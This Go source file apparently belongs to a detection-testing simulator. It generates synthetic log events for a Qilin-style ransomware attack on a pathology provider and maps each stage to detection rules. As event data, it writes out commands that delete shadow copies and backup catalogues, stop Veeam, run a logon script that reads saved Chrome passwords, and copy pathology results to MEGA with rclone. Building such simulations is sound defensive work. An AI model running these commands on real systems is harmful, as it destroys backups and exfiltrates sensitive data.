package sim

import (
	"fmt"
	"time"
)

const (
	qilinAccount = "adm.rjones"
	qilinGPO     = "{6AC1786C-016F-11D2-945F-00C04FB984F9}" // the Default Domain Controllers Policy's GUID form
	qilinExt     = "MmXReVIxLV"
)

// qilin follows the June 2024 attack on Synnovis, the pathology provider of
// two London trusts: a VPN login with stolen credentials and no second
// factor, Group Policy changed to run a task and a logon script on every
// machine, the script stealing saved Chrome passwords at each logon, backups
// destroyed, pathology data copied out with rclone, then the file server
// encrypted. The operator's account links the server-side stages; the
// browser theft runs as whoever logged on to each workstation, but from the
// logon script of the Group Policy object the operator changed, which the
// workstation's process and the DC's alerts both name.
func qilin(b *builder) *Scenario {
	user := NetBIOS + `\` + qilinAccount
	dc, bkp, fs := b.t.Host("DC01"), b.t.Host("BACKUP-SRV01"), b.t.Host("FILE-SRV02")
	victims := []struct {
		host    Host
		account string
	}{{b.t.Host("WARD2-PC03"), "n.patel"}, {b.t.Host("WARD5-PC01"), "j.okafor"}}
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	sc := &Scenario{
		Title:     "Qilin-style ransomware at a pathology provider (Synnovis, June 2024)",
		Incidents: 1,
		Note: "the operator's account links DC, backup and file server; each workstation's browser theft runs as its own user, " +
			"from the logon script of the GPO whose change the DC's alerts name, which links it",
	}
	sc.Stages = append(sc.Stages,
		b.stage("VPN login without MFA", 0,
			"stolen credentials accepted by the VPN with no second factor, then a network logon to the DC; the pack has no rule for a login without MFA yet",
			nil, b.t.vpnLogin(b.at(0), qilinAccount, "185.220.101.47", false), b.logon(dc, 40*time.Second, qilinAccount, 3, "10.250.0.23")),
		b.stage("Group Policy abuse", 10*time.Minute,
			"a scheduled task and a logon script added to a GPO: the directory change and the files in SYSVOL",
			[]string{RuleGPOTaskOrScript, RuleSysvolTaskOrScript}, b.qilinGPO(dc, 10*time.Minute, user)...),
	)
	var theft []Event
	for i, v := range victims {
		d := 25*time.Minute + time.Duration(i)*90*time.Second
		theft = append(theft,
			b.run(v.host, d, NetBIOS+`\`+v.account, ps, `powershell.exe -ExecutionPolicy Bypass -File \\trust.nhs.uk\SYSVOL\trust.nhs.uk\Policies\`+qilinGPO+`\User\Scripts\Logon\IPScanner.ps1`, `C:\Windows\System32\gpscript.exe`),
			b.t.win(b.at(d+3*time.Second), v.host, chSecurity, 4663, map[string]any{
				"SubjectUserName": v.account, "SubjectDomainName": NetBIOS, "ObjectServer": "Security", "ObjectType": "File",
				"ObjectName":  fmt.Sprintf(`C:\Users\%s\AppData\Local\Google\Chrome\User Data\Default\Login Data`, v.account),
				"ProcessName": ps, "AccessMask": "0x1", "Accesses": "%%4416",
			}))
	}
	sc.Stages = append(sc.Stages,
		b.stage("Browser credential theft", 25*time.Minute,
			"the logon script reads each user's saved Chrome passwords (object access on Login Data)",
			[]string{RuleBrowserCredStore}, theft...),
		b.stage("Backup deletion", 40*time.Minute,
			"Veeam stopped, shadow copies and the Windows backup catalogue deleted on the backup server",
			[]string{RuleBackupServiceStop, RuleShadowCopyDeletion, RuleWbadminDeletion, RuleRansomwarePrecursors},
			b.run(bkp, 40*time.Minute, user, `C:\Windows\System32\net.exe`, `net stop VeeamBackupSvc /y`, `C:\Windows\System32\cmd.exe`),
			b.run(bkp, 40*time.Minute+20*time.Second, user, `C:\Windows\System32\vssadmin.exe`, `vssadmin delete shadows /all /quiet`, `C:\Windows\System32\cmd.exe`),
			b.run(bkp, 40*time.Minute+45*time.Second, user, `C:\Windows\System32\wbadmin.exe`, `wbadmin delete catalog -quiet`, `C:\Windows\System32\cmd.exe`)),
		b.stage("Exfiltration with rclone", 50*time.Minute,
			"pathology results copied to MEGA with a renamed-path rclone",
			[]string{RuleExfiltrationCloud}, b.rclone(fs, 50*time.Minute, user, `rclone.exe copy "D:\Pathology\Results" mega:lab-results --transfers 16 -q --ignore-existing --multi-thread-streams 12`)...),
		b.stage("Encryption", 70*time.Minute,
			"the encryptor renames pathology files with its random extension and leaves README-RECOVER notes",
			[]string{RuleRansomNote, RuleMassFileWrites},
			b.encrypt(fs, 70*time.Minute, `C:\ProgramData\qilin\w.exe`, user, 7712, 140,
				func(i int) string { return fmt.Sprintf(`D:\Pathology\Results\2024-06\batch-%04d.hl7.%s`, i, qilinExt) },
				func(i int) string { return fmt.Sprintf(`D:\Pathology\Results\README-RECOVER-%s.txt`, qilinExt) })...),
	)
	return sc
}

// qilinGPO is the directory change (5136) adding the Scheduled Tasks and
// Scripts extensions to a GPO, and the files written into its SYSVOL folder.
func (b *builder) qilinGPO(dc Host, d time.Duration, user string) []Event {
	change := func(at time.Time, attr, value string) Event {
		return b.t.win(at, dc, chSecurity, 5136, map[string]any{
			"SubjectUserName": qilinAccount, "SubjectDomainName": NetBIOS, "DSName": Domain, "DSType": "%%14676",
			"ObjectDN":    "CN=" + qilinGPO + ",CN=POLICIES,CN=SYSTEM,DC=TRUST,DC=NHS,DC=UK",
			"ObjectClass": "groupPolicyContainer", "AttributeLDAPDisplayName": attr, "AttributeValue": value, "OperationType": "%%14674",
		})
	}
	folder := `C:\Windows\SYSVOL\domain\Policies\` + qilinGPO
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	g := guid(0x5136_0001, uint64(d))
	return []Event{
		change(b.at(d), "gPCMachineExtensionNames", "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}][{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"),
		b.t.fileEvent(b.at(d+5*time.Second), dc, ps, g, 6120, user, folder+`\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml`),
		change(b.at(d+time.Minute), "gPCUserExtensionNames", "[{42B5FAAE-6536-11D2-AE5A-0000F87571E3}{40B66650-4972-11D1-A7CA-0000F87571E3}]"),
		b.t.fileEvent(b.at(d+time.Minute+5*time.Second), dc, ps, g, 6120, user, folder+`\User\Scripts\Logon\IPScanner.ps1`),
	}
}

// rclone is rclone started on h with cmd, and its connection out.
func (b *builder) rclone(h Host, d time.Duration, user, cmd string) []Event {
	ev := b.run(h, d, user, `C:\ProgramData\rc\rclone.exe`, cmd, `C:\Windows\System32\cmd.exe`)
	ev.Fields["Description"] = "Rsync for cloud storage"
	ev.Fields["OriginalFileName"] = "rclone.exe"
	conn := b.t.win(b.at(d+2*time.Second), h, chSysmon, 3, map[string]any{
		"RuleName": "-", "ProcessGuid": ev.Fields["ProcessGuid"], "ProcessId": ev.Fields["ProcessId"], "Image": `C:\ProgramData\rc\rclone.exe`,
		"User": user, "Protocol": "tcp", "Initiated": "true", "SourceHostname": h.FQDN(), "DestinationHostname": "g.api.mega.co.nz", "DestinationPort": 443,
	})
	return []Event{ev, conn}
}
